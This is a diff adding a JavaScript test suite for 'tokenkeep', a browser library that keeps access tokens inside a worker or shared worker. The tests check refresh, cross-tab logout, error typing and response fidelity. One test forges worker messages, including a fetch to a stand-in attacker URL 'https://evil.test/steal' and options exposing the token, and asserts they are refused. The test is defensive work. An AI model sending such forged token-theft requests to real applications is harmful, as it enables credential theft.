@@ -1,0 +1,437 @@
+// The homes in a worker: what a page gets is what the page's own manager would give it, and the token is not among it. The other tests of
+// this folder run against these homes as well: HOME_OF_TOKENS=worker, or shared-worker.
+
+import assert from 'node:assert/strict'
+import { granted, json, refused, startStub } from './support/stub.mjs'
+import { User } from './support/browser.mjs'
+import { check } from './support/lack.mjs'
+import { world } from './support/world.mjs'
+
+const { server, browser, it } = await world()
+
+const HOMES = ['worker', 'shared-worker']
+
+/** Runs in the page, before all else: keeps all that crosses to it, and what a patched platform sees. */
+function tap() {
+  const crossed = (globalThis.crossed = [])
+  const note = (way, value) => {
+    crossed.push(`${way} ${look(value, 8)}`)
+  }
+  const look = (value, depth) => {
+    if (typeof value === 'string') return value
+    if (!depth || typeof value !== 'object' || value === null) return String(value)
+    if (value instanceof ArrayBuffer || ArrayBuffer.isView(value)) return new TextDecoder('latin1').decode(value)
+    return Reflect.ownKeys(value).map((key) => {
+      try {
+        return `${String(key)}=${look(value[key], depth - 1)}`
+      } catch {
+        return String(key)
+      }
+    }).join(' ')
+  }
+  for (const type of [MessagePort, Worker, BroadcastChannel]) {
+    const { postMessage } = type.prototype
+    type.prototype.postMessage = function (message, ...more) {
+      note('sent', message)
+      return postMessage.call(this, message, ...more)
+    }
+    const { addEventListener } = type.prototype
+    const { set } = Object.getOwnPropertyDescriptor(type.prototype, 'onmessage') ?? {}
+    const heard = (event) => note('heard', event.data)
+    type.prototype.addEventListener = function (name, ...more) {
+      if (name === 'message') addEventListener.call(this, name, heard)
+      return addEventListener.call(this, name, ...more)
+    }
+    if (set) Object.defineProperty(type.prototype, 'onmessage', { set(listener) {
+      addEventListener.call(this, 'message', heard)
+      set.call(this, listener)
+    } })
+  }
+  const platform = globalThis.fetch
+  globalThis.fetch = (...args) => {
+    note('fetch', args)
+    return platform(...args)
+  }
+  for (const [type, name] of [[Response, 'json'], [Response, 'text'], [TextDecoder, 'decode'], [Headers, 'get'], [Headers, 'set']]) {
+    const original = type.prototype[name]
+    type.prototype[name] = function (...args) {
+      const result = original.apply(this, args)
+      note(name, args)
+      if (result instanceof Promise) result.then((value) => note(name, value), () => {})
+      else note(name, result)
+      return result
+    }
+  }
+  const { parse } = JSON
+  JSON.parse = (text, ...more) => {
+    note('parse', text)
+    return parse(text, ...more)
+  }
+  // What any script of the origin hears.
+  globalThis.listen = (name) => (new BroadcastChannel(name).onmessage = () => {})
+}
+
+for (const home of HOMES) {
+  const signedIn = (user, options, prepare) => user.signedIn({ isolation: home, ...options }, prepare)
+  const named = (text, body) => it(`${home}: ${text}`, body)
+
+  named('sign in, call, sign out', async (user) => {
+    const page = await user.tab({ isolation: home })
+    assert.equal((await page.evaluate(() => signIn('alice'))).value.user.name, 'alice')
+    assert.deepEqual(await page.evaluate(() => [auth.state.status, auth.state.claims.sub, Object.isFrozen(auth.state.claims)]), ['signed-in', 'alice', true])
+    assert.equal((await page.evaluate(() => call('/api/me'))).body.name, 'alice')
+    assert.deepEqual(await page.evaluate(() => outcome(auth.logout('/auth/logout'))), { value: undefined })
+    assert.equal(await page.evaluate(() => auth.state.status), 'signed-out')
+    assert.equal((await page.evaluate(() => call('/api/me'))).status, 401)
+    assert.deepEqual(await page.evaluate(() => told()), ['signout logout'])
+  })
+
+  named('many calls that are refused cost one refresh', async (user) => {
+    const page = await signedIn(user)
+    await server.revoke()
+    const answers = await page.evaluate(() => calls(20))
+    assert.deepEqual(answers.map(({ status }) => status), Array(20).fill(200))
+    assert.equal(await server.refreshes(), 1)
+    assert.deepEqual(await page.evaluate(() => told()), ['refresh'])
+  })
+
+  named('a reload finds the session, and a logout before a call is answered is a logout', async (user) => {
+    const page = await signedIn(user)
+    await page.reload()
+    await page.evaluate((home) => start({ isolation: home }), home)
+    assert.equal((await page.evaluate(() => call('/api/me'))).body.name, 'alice')
+    await page.evaluate(() => {
+      void auth.refresh().catch(() => {})
+      return auth.logout('/auth/logout')
+    })
+    assert.equal(await page.evaluate(() => auth.state.status), 'signed-out')
+  })
+
+  named('two tabs: one signs out, and the other knows', async (user) => {
+    const one = await signedIn(user)
+    const other = await user.tab({ isolation: home })
+    assert.equal((await other.evaluate(() => call('/api/me'))).body.name, 'alice')
+    const heard = other.evaluate(() => heard('signout other-tab'))
+    await one.evaluate(() => auth.logout('/auth/logout'))
+    await heard
+    assert.equal(await other.evaluate(() => auth.state.status), 'signed-out')
+    assert.deepEqual(await one.evaluate(() => told().filter((event) => event.startsWith('signout'))), ['signout logout'])
+  })
+
+  named('errors cross with class, code and reason', async (user) => {
+    const page = await user.tab({ isolation: home })
+    const seen = await page.evaluate(async () => {
+      const error = await auth.login('/auth/login', credentials('alice', 'wrong')).catch((error) => error)
+      const words = (await error.cause.json()).error
+      const network = await auth.fetch('http://127.0.0.1:1/').catch((error) => [error.constructor === TypeError, error.name])
+      const argument = await auth.fetch('/api/me', { method: 'TRACE' }).catch((error) => [error.constructor === TypeError, error.name])
+      const token = await outcome(auth.getAccessToken())
+      let peek
+      try {
+        auth.peekAccessToken()
+      } catch ({ code }) {
+        peek = code
+      }
+      return { error: { ...error }, instance: error instanceof Error, cause: [error.cause.status, error.cause.url], words, network, argument, token, peek }
+    })
+    assert.deepEqual(seen, {
+      error: { code: 'rejected', retryable: false, status: 401 }, instance: true, cause: [401, `${user.origin}/auth/login`], words: 'invalid_credentials',
+      network: [true, 'TypeError'], argument: [true, 'TypeError'],
+      token: { error: { code: 'not-exposed', retryable: false } }, peek: 'not-exposed',
+    })
+    await server.faults({ login: 'down' })
+    assert.deepEqual(await page.evaluate(() => signIn('alice')), { error: { code: 'bad-status', retryable: true, status: 503 } })
+  })
+
+  named('the token is in nothing that the page can see', async (user) => {
+    const secrets = new Set()
+    const reading = []
+    user.context.on('response', (response) => {
+      if (!/\/auth\/(login|refresh)$/.test(response.url())) return
+      reading.push(response.text().then((text) => {
+        const token = /"access_token":"([^"]+)"/.exec(text)?.[1]
+        if (token) secrets.add(token).add(token.split('.')[2])
+      }, () => {}))
+    })
+    const prepare = (page) => page.addInitScript(tap)
+    const page = await signedIn(user, {}, prepare)
+    const other = await user.tab({ isolation: home }, prepare)
+    await server.revoke()
+    await page.evaluate(() => calls(5))
+    await other.evaluate(() => calls(5))
+    await page.evaluate(async () => {
+      await auth.refresh()
+      await outcome(auth.fetch('/auth/refresh', { method: 'POST' }))
+      await auth.login('/auth/login', credentials('alice'))
+    })
+    await server.revoke()
+    await page.evaluate(() => call('/api/me'))
+    await page.evaluate(() => auth.logout('/auth/logout'))
+    const seen = [...(await page.evaluate(() => crossed)), ...(await other.evaluate(() => crossed))]
+    assert.ok(seen.some((line) => line.includes('kind=response')), 'the tap hears what crosses')
+    assert.ok(seen.some((line) => line.includes('kind=hello')), 'the tap hears what is sent')
+    await server.faults()
+    // The signature of any token, for those that the driver cannot read.
+    for (const line of seen) {
+      assert.doesNotMatch(line, /eyJ[\w-]+\.[\w-]+\.[\w-]+/)
+      for (const secret of secrets) assert.ok(!line.includes(secret), line)
+      assert.doesNotMatch(line, /access_token/)
+    }
+  })
+
+  named('an abort ends the call at once, on both sides, with the caller\'s reason', async (user) => {
+    const page = await signedIn(user)
+    await server.faults({ api: 'hold' })
+    await page.evaluate(() => {
+      globalThis.controller = new AbortController()
+      globalThis.mine = auth.fetch('/api/items/1', { signal: controller.signal }).catch((error) => error)
+    })
+    await server.held('api')
+    assert.deepEqual(await page.evaluate(() => (controller.abort({ my: 'reason' }), mine)), { my: 'reason' })
+    await server.faults()
+    await server.release('api')
+    assert.equal((await page.evaluate(() => call('/api/items/2'))).status, 200)
+  })
+
+  named('the endpoints that answer with tokens are not to be had by fetch', async (user) => {
+    const page = await signedIn(user)
+    const before = await server.lines()
+    for (const path of ['/auth/refresh', '/auth/refresh?x=1', '/auth/login', '/auth/../auth/refresh#x'])
+      assert.equal((await page.evaluate((path) => call(path, { method: 'POST' }), path)).error?.code, 'invalid-argument', path)
+    assert.deepEqual(await server.lines(), before)
+  })
+
+  named('options that would show the token, or cannot cross, are refused by name', async (user) => {
+    const page = await user.blank()
+    const code = async (options) => {
+      const { error, message } = await page.evaluate(async ([options, home]) => {
+        const made = make({ isolation: home, ...eval(`(${options})`) })
+        const error = await made.fetch('/api/me').catch((error) => error)
+        made.dispose()
+        return { error: error.code, message: error.message }
+      }, [options, home])
+      assert.equal(error, 'invalid-option', `${options}: ${message}`)
+      return message
+    }
+    for (const [options, name] of [
+      ['{ exposeToken: true }', 'exposeToken'],
+      ['{ attach: { query: "t" } }', 'attach.query'],
+      ['{ attach: { cookie: true } }', 'attach.cookie'],
+      ['{ tabs: "share" }', 'tabs'],
+      ['{ refresh: { url: "/r", headers: () => ({}) } }', 'refresh.headers'],
+      ['{ refresh: async () => null }', 'refresh'],
+      ['{ isolation: "service-worker" }', 'isolation'],
+      ['{ isolation: "page" }', 'isolation'],
+      ['{ nonsense: 1 }', 'nonsense'],
+      ['{ apis: ["mailto:x"] }', 'apis'],
+      ['{ fallback: "page" }', 'fallback'],
+    ]) assert.match(await code(options), new RegExp(`\`${name}`))
+  })
+
+  named('a request to what is no API is the page\'s own', async (user) => {
+    const page = await user.tab({ isolation: home, apis: ['/api'] }, (page) => page.addInitScript(() => {
+      const platform = fetch
+      globalThis.own = []
+      globalThis.fetch = (...args) => {
+        own.push(new Request(...args).url)
+        return platform(...args)
+      }
+    }))
+    await page.evaluate(() => signIn('alice'))
+    await page.evaluate(async () => {
+      await auth.fetch('/apix')
+      await auth.fetch('/api/me')
+      await auth.fetch('/api/me', { headers: { authorization: 'Basic x' } })
+    })
+    assert.deepEqual((await page.evaluate(() => own)).map((url) => new URL(url).pathname), ['/apix', '/api/me'])
+  })
+}
+
+// What the reference server does not answer with.
+const bytes = Buffer.alloc(300_000, 'abc')
+const stub = await startStub({
+  '/auth/refresh': () => granted('new'),
+  '/api/echo': (arrived) => (arrived.headers.authorization === 'Bearer new' ? json(arrived, { 'x-next': 'newer', 'x-seen': 'yes' }) : refused()),
+  '/api/bytes': () => ({ body: bytes, type: 'application/octet-stream', headers: { 'x-next': 'newer' } }),
+  '/api/broken': () => ({ body: 'abc', breaksOff: true }),
+  '/api/empty': () => ({ status: 204 }),
+  '/api/away': () => ({ status: 302, headers: { location: '/api/bytes' } }),
+  '/api/endless': () => ({ body: 'abc', goesOn: true }),
+})
+
+for (const home of HOMES) {
+  const named = (text, body) => check(`${home}: ${text}`, async (t) => {
+    stub.reset()
+    await body(await User.visits(t, browser, stub.origin))
+  })
+  const ready = async (user, options) => {
+    const page = await user.tab({ isolation: home, ...options })
+    await page.evaluate(() => auth.setTokens({ accessToken: 'old', expiresIn: 300 }))
+    return page
+  }
+
+  named('every kind of body arrives, twice where it must', async (user) => {
+    const page = await ready(user)
+    const sent = await page.evaluate(async () => {
+      const form = new FormData()
+      form.append('a', 'ä')
+      form.append('file', new File(['content'], 'name.txt', { type: 'text/plain' }))
+      const kinds = {
+        text: 'tëxt',
+        bytes: new Uint8Array([1, 2, 3, 250]),
+        view: new Uint16Array([1, 2, 3]).subarray(1),
+        blob: new Blob(['blob'], { type: 'text/x-mine' }),
+        parameters: new URLSearchParams({ a: 'b c', d: 'ë' }),
+        form,
+        none: undefined,
+        empty: '',
+      }
+      const seen = {}
+      for (const [kind, body] of Object.entries(kinds)) {
+        for (const way of ['init', 'request']) {
+          const init = { method: 'POST', body, headers: { 'x-mine': kind } }
+          const call = async (fetch, url) => {
+            const answer = await (way === 'init' ? fetch(url, init) : fetch(new Request(url, init)))
+            return answer.json()
+          }
+          await auth.setTokens({ accessToken: 'old', expiresIn: 300 })
+          const ours = await call(auth.fetch, '/api/echo')
+          const platform = await call((...args) => {
+            const request = new Request(...args)
+            request.headers.set('authorization', 'Bearer new')
+            return fetch(request)
+          }, '/api/echo')
+          const told = ({ method, headers, sha256 }) => [method, headers['content-type'], headers['x-mine'], headers['content-length'], headers.referer, sha256]
+          seen[`${kind} ${way}`] = [told(ours), told(platform)]
+        }
+      }
+      return seen
+    })
+    for (const [kind, [ours, platform]] of Object.entries(sent)) assert.deepEqual(ours, platform, kind)
+    assert.ok(stub.at('/auth/refresh').length >= 16)
+  })
+
+  named('the Response is what fetch would have given', async (user) => {
+    const page = await ready(user, { adopt: { header: 'X-Next' } })
+    const [ours, platform] = await page.evaluate(async () => {
+      const told = async (fetch, path, init) => {
+        const response = await fetch(path, init)
+        const { status, statusText, ok, url, type, redirected, bodyUsed } = response
+        const copy = response.clone()
+        const text = await response.text()
+        return [response instanceof Response, status, statusText, ok, url, type, redirected, bodyUsed, response.body === null, text.length, copy.url, copy.type, (await copy.text()) === text,
+          [...response.headers].filter(([name]) => !/date|x-next/.test(name))]
+      }
+      const all = async (fetch) => [await told(fetch, '/api/bytes'), await told(fetch, '/api/empty'), await told(fetch, '/api/away'), await told(fetch, '/api/away', { redirect: 'manual' }), await told(fetch, '/api/bytes', { method: 'HEAD' })]
+      return [await all(auth.fetch), await all(fetch)]
+    })
+    assert.deepEqual(ours, platform)
+    assert.equal(await page.evaluate(async () => (await auth.fetch('/api/bytes')).headers.get('x-next')), null)
+  })
+
+  named('a body comes as it is read, breaks off as it does, and ends with the signal', async (user) => {
+    const page = await ready(user)
+    const seen = await page.evaluate(async () => {
+      const reader = (await auth.fetch('/api/endless')).body.getReader()
+      const first = new TextDecoder().decode((await reader.read()).value)
+      await reader.cancel()
+      const broken = await auth.fetch('/api/broken').then((response) => response.text()).catch((error) => error.name)
+      const controller = new AbortController()
+      const torn = await auth.fetch('/api/endless', { signal: controller.signal })
+      const reading = torn.text().catch((error) => error)
+      controller.abort('mine')
+      return [first, broken, await reading]
+    })
+    assert.deepEqual(seen, ['abc', 'TypeError', 'mine'])
+  })
+
+  named('a worker file of the app\'s own has the options, functions too, and no page gives any', async (user) => {
+    stub.routes['/own.js'] = () => ({ type: 'text/javascript', body: `
+      import { serve } from '/tokenkeep/isolation/worker.js'
+      serve({ refresh: async () => ({ accessToken: 'new', expiresIn: 300 }), apis: ['/api'], name: 'own' })` })
+    const page = await user.blank()
+    const seen = await page.evaluate(async (home) => {
+      const { createTokenManager } = await import('/tokenkeep/isolation/page.js')
+      const worker = () => home === 'worker' ? new Worker('/own.js', { type: 'module' }) : new SharedWorker('/own.js', { type: 'module' })
+      globalThis.auth = createTokenManager({ isolation: home, worker })
+      const good = await call('/api/echo')
+      auth.dispose()
+      const both = createTokenManager({ isolation: home, worker: '/own.js', apis: ['/'] })
+      return [good.status, await outcome(both.fetch('/api/echo'))]
+    }, home)
+    assert.deepEqual(seen, [200, { error: { code: 'invalid-option', retryable: false } }])
+  })
+
+  named('a worker that does not start is a typed error that says why, and nothing is sent', async (user) => {
+    const page = await user.blank()
+    const seen = await page.evaluate(async (home) => {
+      const { createTokenManager } = await import('/tokenkeep/isolation/page.js')
+      const tries = [{ worker: '/nowhere.js' }, { worker: 'https://example.invalid/x.js' }, { worker: () => { throw new Error('mine') } }]
+      const seen = []
+      for (const more of tries) {
+        const made = createTokenManager({ refresh: '/auth/refresh', isolation: home, ...more })
+        seen.push((await outcome(made.fetch('/api/echo'))).error?.code)
+      }
+      return seen
+    }, home)
+    assert.deepEqual(seen, ['not-loaded', 'not-loaded', 'not-loaded'])
+    assert.equal(stub.at('/api/echo').length, 0)
+  })
+
+  named('forged messages change nothing', async (user) => {
+    const page = await user.tab({ isolation: home }, (page) => page.addInitScript(() => {
+      globalThis.workers = []
+      for (const name of ['Worker', 'SharedWorker']) {
+        const Type = globalThis[name]
+        globalThis[name] = class extends Type {
+          constructor(...args) {
+            super(...args)
+            workers.push(this)
+            globalThis.made = args
+          }
+        }
+      }
+      const { postMessage } = MessagePort.prototype
+      globalThis.sent = []
+      globalThis.forge = (message) => postMessage.call(port, message)
+      MessagePort.prototype.postMessage = function (message, ...more) {
+        globalThis.port = this
+        sent.push(message)
+        return postMessage.call(this, message, ...more)
+      }
+    }))
+    await page.evaluate(() => auth.setTokens({ accessToken: 'new', expiresIn: 300 }))
+    const heard = await page.evaluate(async (home) => {
+      const heard = []
+      const hello = sent.find(({ kind }) => kind === 'hello')
+      const evil = { ...hello, options: { refresh: '/auth/refresh', apis: ['https://evil.test/'], exposeToken: true }, text: 'evil' }
+      port.addEventListener('message', ({ data }) => heard.push(JSON.stringify(data)))
+      // On the page's own port, on a port to the worker itself, and as another page of the shared worker.
+      forge(evil)
+      forge({ kind: 'call', id: 900, method: 'getAccessToken' })
+      forge({ kind: 'call', id: 901, method: 'peekAccessToken' })
+      forge({ kind: 'call', id: 902, method: 'constructor' })
+      forge({ kind: 'fetch', id: 903, request: { url: 'https://evil.test/steal', init: { method: 'GET', headers: [] } } })
+      forge({ kind: 'fetch', id: 904, request: { url: `${location.origin}/auth/refresh`, init: { method: 'POST', headers: [] } } })
+      forge({ kind: 'facts', facts: { cookies: { __proto__: { x: 1 } }, controlled: true, visible: true } })
+      for (const odd of [null, 1, 'x', {}, { kind: 'fetch' }, { kind: 'body' }, { kind: 'marks' }]) forge(odd)
+      const { port1, port2 } = new MessageChannel()
+      let another = port1
+      if (home === 'worker') workers[0].postMessage('tokenkeep', [port2])
+      else another = new SharedWorker(...made).port
+      const answers = []
+      another.onmessage = ({ data }) => answers.push(data)
+      another.postMessage({ kind: 'call', id: 1, method: 'getAccessToken' })
+      another.postMessage(evil)
+      const me = await call('/api/echo')
+      await call('/api/echo')
+      return { heard, answers: answers.map((answer) => [answer.kind, answer.error?.code]), me: me.status }
+    }, home)
+    assert.equal(heard.me, 200)
+    assert.deepEqual(heard.answers, home === 'worker' ? [] : [['failed', 'invalid-option']])
+    for (const line of heard.heard) assert.doesNotMatch(line, /"new"/)
+    const errors = heard.heard.map((line) => JSON.parse(line)).filter(({ id }) => id >= 900)
+    assert.deepEqual(errors.map(({ id, kind }) => [id, kind]), [[903, 'error'], [904, 'error'], [900, 'done'], [901, 'done'], [902, 'done']].sort((a, b) => a[0] - b[0]).sort((a, b) => errors.findIndex(({ id }) => id === a[0]) - errors.findIndex(({ id }) => id === b[0])))
+    assert.deepEqual([...new Set(errors.map(({ value }) => value))], [undefined])
+  })
+}
